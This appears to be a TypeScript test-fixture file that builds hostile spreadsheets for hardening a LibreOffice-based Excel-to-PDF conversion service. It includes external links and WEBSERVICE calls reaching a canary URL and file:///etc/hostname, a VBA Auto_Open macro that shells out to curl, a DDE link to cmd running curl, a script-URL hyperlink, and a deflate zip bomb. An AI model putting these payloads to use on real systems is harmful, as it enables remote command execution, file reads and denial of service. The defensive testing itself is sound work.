import { strToU8 } from 'fflate';
import { MACRO_WORKBOOK_TYPE, createXlsx } from './spreadsheets.ts';

/**
 * Hostile spreadsheets of the hardening catalogue (group D) for Excel to PDF, built by the tests that use them:
 * workbooks that try to fetch, read or run something while LibreOffice converts them (external workbook links,
 * WEBSERVICE, DDE, macros), and sheets or containers that ask for too much.
 */

const RELS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const MAIN = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
const EXTERNAL_LINK_TYPE = 'application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml';

/** Escapes text for an XML attribute value or text. */
const escape = (text: string) => text.replace(/&/g, '&amp;').replace(/"/g, '&quot;').replace(/</g, '&lt;');

/** Workbook parts for `links`, each an external-link part (its own inner XML) with its relationship. */
function externalLinks(links: ReadonlyArray<{ inner: string; target?: string }>) {
  return {
    workbookExtras: `<externalReferences>${links
      .map((_, index) => `<externalReference r:id="rIdExt${index + 1}"/>`)
      .join('')}</externalReferences><calcPr fullCalcOnLoad="1"/>`,
    workbookRels: links
      .map(
        (_, index) =>
          `<Relationship Id="rIdExt${index + 1}" Type="${RELS}/externalLink" Target="externalLinks/externalLink${index + 1}.xml"/>`,
      )
      .join(''),
    parts: Object.fromEntries(
      links.flatMap(({ inner, target }, index) => [
        [
          `xl/externalLinks/externalLink${index + 1}.xml`,
          `<?xml version="1.0" encoding="UTF-8"?><externalLink xmlns="${MAIN}" xmlns:r="${RELS}">${inner}</externalLink>`,
        ],
        ...(target
          ? [
              [
                `xl/externalLinks/_rels/externalLink${index + 1}.xml.rels`,
                '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
                  `<Relationship Id="rId1" Type="${RELS}/externalLinkPath" Target="${escape(target)}" TargetMode="External"/></Relationships>`,
              ],
            ]
          : []),
      ]),
    ),
    contentTypes: links
      .map(
        (_, index) =>
          `<Override PartName="/xl/externalLinks/externalLink${index + 1}.xml" ContentType="${EXTERNAL_LINK_TYPE}"/>`,
      )
      .join(''),
  };
}

/** An external book whose cached A1 is `stored link value`. */
const externalBook =
  '<externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames><sheetDataSet><sheetData sheetId="0">' +
  '<row r="1"><cell r="A1" t="str"><v>stored link value</v></cell></row></sheetData></sheetDataSet></externalBook>';

/** A formula cell with an empty cached value (so that showing a value would need calculating it). */
const formula = (ref: string, text: string) => `<c r="${ref}" t="str"><f>${escape(text)}</f><v></v></c>`;

/**
 * Items 35 and 37: an .xlsx whose cells reference two external workbooks (on the canary and at
 * `file:///etc/hostname`), call WEBSERVICE on both and link to the canary, with a full calculation asked for on
 * load. Its own text is `Quire sheet canary`.
 */
export function createLinkingXlsx(canaryUrl: string): Uint8Array {
  const links = externalLinks([
    { inner: externalBook, target: `${canaryUrl}/book.xlsx` },
    { inner: externalBook, target: 'file:///etc/hostname' },
  ]);
  return createXlsx({
    sheets: [
      {
        name: 'Sheet1',
        rows: [['Quire sheet canary']],
        rawRows:
          `<row r="2">${formula('A2', '[1]Sheet1!A1')}${formula('B2', '[2]Sheet1!A1')}</row>` +
          `<row r="3">${formula('A3', `_xlfn.WEBSERVICE("${canaryUrl}/ws")`)}` +
          `${formula('B3', '_xlfn.WEBSERVICE("file:///etc/hostname")')}` +
          `${formula('C3', `HYPERLINK("${canaryUrl}/click","click")`)}</row>`,
      },
    ],
    ...links,
  });
}

/**
 * Items 36 and 41: a macro-enabled workbook (.xlsm) with a VBA project holding `Auto_Open` and `Workbook_Open`, an
 * `Auto_Open` defined name, a DDE link to `cmd` that would call the canary, and a LibreOffice script URL as a
 * hyperlink. Its own text is `Quire macro sheet`.
 */
export function createMacroXlsm(canaryUrl: string): Uint8Array {
  const vbaSource =
    'Attribute VB_Name = "ThisWorkbook"\r\nSub Auto_Open()\r\n  Shell "curl ' +
    canaryUrl +
    '/autoopen"\r\nEnd Sub\r\nSub Workbook_Open()\r\n  Shell "touch /tmp/quire-macro-ran"\r\nEnd Sub\r\n';
  const links = externalLinks([
    {
      inner:
        `<ddeLink ddeService="cmd" ddeTopic="${escape(`/c curl ${canaryUrl}/dde`)}"><ddeItems>` +
        '<ddeItem name="A0" advise="1"/></ddeItems></ddeLink>',
    },
  ]);
  return createXlsx({
    mainType: MACRO_WORKBOOK_TYPE,
    sheets: [
      {
        name: 'Sheet1',
        rows: [['Quire macro sheet']],
        rawRows: `<row r="2">${formula('A2', "[1]!'A0'")}</row>`,
        after: '<hyperlinks><hyperlink ref="A1" r:id="rIdScript"/></hyperlinks>',
        rels:
          `<Relationship Id="rIdScript" Type="${RELS}/hyperlink" ` +
          `Target="vnd.sun.star.script:LibreLogo|LibreLogo.py$run?language=Python&amp;location=share" TargetMode="External"/>`,
      },
    ],
    workbookExtras: `${links.workbookExtras}<definedNames><definedName name="Auto_Open">Sheet1!$A$1</definedName></definedNames>`,
    workbookRels: `${links.workbookRels}<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>`,
    parts: { ...links.parts, 'xl/vbaProject.bin': strToU8(vbaSource) },
    contentTypes: `${links.contentTypes}<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>`,
  });
}

/**
 * Item 43: a sheet as large as a sheet can be: a cell in A1 and one in the last cell, XFD1048576, so that its used
 * area spans 16,384 columns and 1,048,576 rows.
 */
export function createHugeSheetXlsx(): Uint8Array {
  return createXlsx({
    sheets: [
      {
        name: 'Sheet1',
        rows: [['corner']],
        rawRows: '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>far corner</t></is></c></row>',
      },
    ],
  });
}

/**
 * Item 43: a real zip bomb: a worksheet of `rows` rows of twenty repeated cells, which deflate shrinks about a
 * thousandfold (120,000 rows unpack to ≈ 108 MB, past the 100 MB any part may hold).
 */
export function createDeflateBombXlsx(rows = 120_000): Uint8Array {
  const row = '<c t="inlineStr"><is><t>0000000000</t></is></c>'.repeat(20);
  const rawRows = Array.from({ length: rows }, (_, index) => `<row r="${index + 1}">${row}</row>`).join('');
  return createXlsx({ sheets: [{ name: 'Sheet1', rawRows }] });
}
